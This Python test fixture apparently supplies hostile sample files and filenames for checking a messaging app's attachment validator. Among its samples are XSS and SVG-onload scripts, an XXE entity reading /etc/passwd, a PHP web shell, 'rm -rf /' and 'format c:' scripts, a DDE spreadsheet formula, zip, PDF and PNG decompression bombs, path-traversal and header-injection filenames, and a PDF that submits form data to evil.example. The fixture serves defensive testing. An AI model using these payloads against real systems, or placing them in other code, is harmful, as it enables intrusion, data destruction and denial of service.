"""Files that nobody should have to open, made by code: what is in them, and what they are called.

`REFUSED` are no documents and no pictures, whatever they are called. `HARMLESS` are taken as
what they begin with; what else is in them never comes to anything.
"""

import gzip
import io
import struct
import zipfile
import zlib
from functools import cache

import pikepdf
from PIL import Image, PngImagePlugin

from tests.messaging.sent_files import EICAR, PDF, picture

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
# On paper as wide as Finland is long.
VAST = 100_000


def zipped(content: bytes, name: str = "index.html") -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return target.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack("!L", len(content))
        + kind
        + content
        + struct.pack("!L", zlib.crc32(kind + content))
    )


def png(width: int, height: int, rows: bytes, *more: bytes) -> bytes:
    """One bit a pixel; as many rows as are given, whatever its head says."""
    head = struct.pack("!LLBBBBB", width, height, 1, 0, 0, 0, 0)
    pieces = [chunk(b"IHDR", head), *more, chunk(b"IDAT", rows), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(pieces)


def boxed(brand: bytes) -> bytes:
    return b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0" + brand + b"mif1" + b"\0" * 64


def pdf_with(prepare, **saved) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(200, 200))
    prepare(document)
    target = io.BytesIO()
    document.save(target, **saved)
    return target.getvalue()


def acting(kind: str, **fields: object):
    def prepare(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **fields)

    return prepare


def drawing(content: bytes):
    def prepare(document: pikepdf.Pdf) -> None:
        document.pages[0].Contents = document.make_stream(content)

    return prepare


def sized(width: int, height: int):
    def prepare(document: pikepdf.Pdf) -> None:
        document.pages[0].MediaBox = [0, 0, width, height]

    return prepare


def attached(document: pikepdf.Pdf) -> None:
    document.attachments["virus.exe"] = b"MZ" + EICAR


def nothing(_document: pikepdf.Pdf) -> None:
    pass


def _texts() -> dict[str, bytes]:
    return {
        "empty": b"",
        "one byte": b"%",
        "text": b"Hei! Liitteena kuitti.",
        "html": HTML,
        "html after spaces": b" \r\n\t" + HTML,
        "html of two bytes a letter": HTML.decode().encode("utf-16"),
        "html that mentions PDF": b"<!-- %PDF-1.4 -->" + HTML,
        "html application": b"<HTA:APPLICATION>" + SCRIPT,
        "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
        + SCRIPT
        + b"</html>",
        "mhtml": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "svg after a declaration": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        + SCRIPT
        + b"</svg>",
        "xml with an entity": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
        "xml that laughs": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "'
        + b"&a;" * 999
        + b'">]><l>&b;</l>',
        "javascript": b"alert(1)",
        "shell": b"#!/bin/sh\nrm -rf /\n",
        "batch": b"@echo off\r\nformat c:\r\n",
        "powershell": b"Invoke-Expression 'x'",
        "php": b"<?php system($_GET['c']); ?>",
        "python": b"import os; os.abort()",
    }


def _programs_and_archives() -> dict[str, bytes]:
    return {
        "windows program": b"MZ\x90\0\x03" + b"\0" * 200 + b"PE\0\0",
        "linux program": b"\x7fELF\x02\x01\x01" + b"\0" * 200,
        "mac program": b"\xcf\xfa\xed\xfe" + b"\0" * 200,
        "java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 64,
        "web assembly": b"\0asm\x01\0\0\0",
        "flash": b"CWS\x0a" + b"\0" * 64,
        "windows link": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + b"\0" * 64,
        "web link": b"[InternetShortcut]\r\nURL=file:///c:/windows/system32/cmd.exe\r\n",
        "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "office": zipped(b"<Types/>", "[Content_Types].xml"),
        "rich text": b"{\\rtf1\\object\\objocx}",
        "zip": zipped(HTML),
        "zip that climbs": zipped(HTML, "../../../../var/www/index.html"),
        "zip bomb": zipped(b"\0" * 2_000_000),
        "zip in a zip": zipped(zipped(zipped(b"\0" * 500_000))),
        "gzip bomb": gzip.compress(b"\0" * 2_000_000),
        "rar": b"Rar!\x1a\x07\x01\0" + b"\0" * 64,
        "7z": b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 64,
        "tar": b"x" + b"\0" * 256 + b"ustar\x0000" + b"\0" * 247,
    }


def _others() -> dict[str, bytes]:
    return {
        "gif": b"GIF89a\x01\0\x01\0\x80\0\0" + b"\0" * 32,
        "gif that is a script": b"GIF89a/*\0\0*/=alert(1)//",
        "gif that is a PDF": b"GIF89a" + PDF,
        "bmp": b"BM" + b"\0" * 64,
        "tiff": b"II*\0\x08\0\0\0" + b"\0" * 64,
        "webp": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 64,
        "icon": b"\0\0\x01\0\x01\0\x10\x10" + b"\0" * 64,
        "photoshop": b"8BPS\0\x01" + b"\0" * 64,
        "avif": boxed(b"avif"),
        "mp4": boxed(b"isom"),
        "pictures in sequence": boxed(b"hevc"),
        "mp3": b"ID3\x03\0\0\0\0\0\0" + b"\0" * 64,
        "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
        "eicar": EICAR,
        "e-mail": b"From: a@example.com\r\nSubject: x\r\n\r\n" + HTML,
        "calendar": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
        "formula": b'=cmd|"/c calc"!A1,2\r\n',
        "zeros": b"\0" * 5000,
        "ones": b"\xff" * 5000,
        "PDF after a space": b" " + PDF,
        "PDF after much else": b"\0" * 5000 + PDF,
    }


def _documents() -> dict[str, bytes]:
    return {
        "PDF and no more": b"%PDF-1.4",
        "PDF that is HTML": b"%PDF-1.4\n" + HTML,
        "PDF that is a ZIP": PDF + zipped(HTML),
        "PDF with a virus": PDF + EICAR,
        "PDF cut off": pdf_with(nothing)[:120],
        "PDF with a script": pdf_with(acting("JavaScript", JS=pikepdf.String("app.alert(1)"))),
        "PDF that starts a program": pdf_with(acting("Launch", F=pikepdf.String("cmd.exe"))),
        "PDF that opens a page": pdf_with(acting("URI", URI=pikepdf.String("javascript:alert(1)"))),
        "PDF that sends": pdf_with(acting("SubmitForm", F=pikepdf.String("https://evil.example/"))),
        "PDF with a program in it": pdf_with(attached),
        "PDF behind a password": pdf_with(
            nothing, encryption=pikepdf.Encryption(owner="a", user="b")
        ),
        "PDF of a vast page": pdf_with(sized(10**9, 10**9)),
        "PDF without any height": pdf_with(sized(200, 0)),
        "PDF bomb": pdf_with(drawing(b"q " * 15_000_000), compress_streams=True),
        "PDF of many brackets": b"%PDF-1.4\n1 0 obj\n"
        + b"[" * 100_000
        + b"\nendobj\ntrailer<</Root 1 0 R>>",
        "PDF that leads in a circle": (
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj\n"
            b"trailer<</Root 1 0 R>>"
        ),
    }


def _pictures() -> dict[str, bytes]:
    jpeg, heic = picture(), picture("HEIF", (64, 64))
    text = PngImagePlugin.PngInfo()
    text.add_text("x", "x" * 2_000_000, zip=True)
    animated = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "blue")]
    frames[0].save(animated, "PNG", save_all=True, append_images=frames[1:])
    grey = io.BytesIO()
    Image.new("CMYK", (32, 32)).save(grey, "JPEG")
    return {
        "JPG with a page in its comment": picture(comment=HTML),
        "JPG that is a ZIP": jpeg + zipped(HTML),
        "JPG cut off": picture(size=(640, 480))[:400],
        "JPG and no more": b"\xff\xd8\xff\xe0",
        "JPG that is HTML": b"\xff\xd8\xff\xe0" + HTML,
        "JPG that says it is vast": jpeg.replace(b"\0\x30\0\x40", b"\xff\xff\xff\xff"),
        "JPG of four inks": grey.getvalue(),
        "JPG with odd data of a camera": picture(exif=b"Exif\0\0II*\0\xff\xff\xff\xff" + SCRIPT),
        "JPG with odd colours": picture(icc_profile=b"\0" * 200 + SCRIPT),
        "PNG bomb": png(VAST, VAST, zlib.compress(b"\0" * (VAST // 8 + 1) * 100)),
        "PNG of few rows": png(64, 64, zlib.compress(b"\0" * 9)),
        "PNG with words without end": picture("PNG", pnginfo=text),
        "PNG that moves": animated.getvalue(),
        "PNG with HTML behind it": picture("PNG") + HTML,
        "PNG with a wrong sum": picture("PNG").replace(b"IDAT", b"IDAX"),
        "PNG without size": png(0, 0, b""),
        "HEIC and no more": boxed(b"heic"),
        "HEIC cut off": heic[: len(heic) // 2],
        "HEIC that says it is vast": heic.replace(
            b"ispe\0\0\0\0" + b"\0\0\0\x40" * 2, b"ispe\0\0\0\0" + b"\x7f\xff\xff\xff" * 2
        ),
        "HEIC with HTML behind it": heic + HTML,
    }


@cache
def refused() -> dict[str, bytes]:
    """No documents and no pictures that we take."""
    return {**_texts(), **_programs_and_archives(), **_others()}


@cache
def harmless() -> dict[str, bytes]:
    """Taken as PDFs and pictures; nothing else comes of them."""
    return {**_documents(), **_pictures()}


NAMES = (
    "kuitti.pdf",
    "kuva.jpg",
    "",
    ".",
    "kuitti.pdf.exe",
    "evil.html",
    "../../../etc/passwd",
    "C:\\Windows\\System32\\calc.exe",
    "lasku\u202efdp.exe",
    "kuitti\0.html",
    "x\r\nSet-Cookie: a=b\r\n.pdf",
    "<img src=x onerror=alert(1)>.png",
    'x"; filename="evil.html',
    "CON.pdf",
    "\u200b\u200b.pdf",
    "x" * 400 + ".pdf",
    "näyttö 3 €.pdf",
)
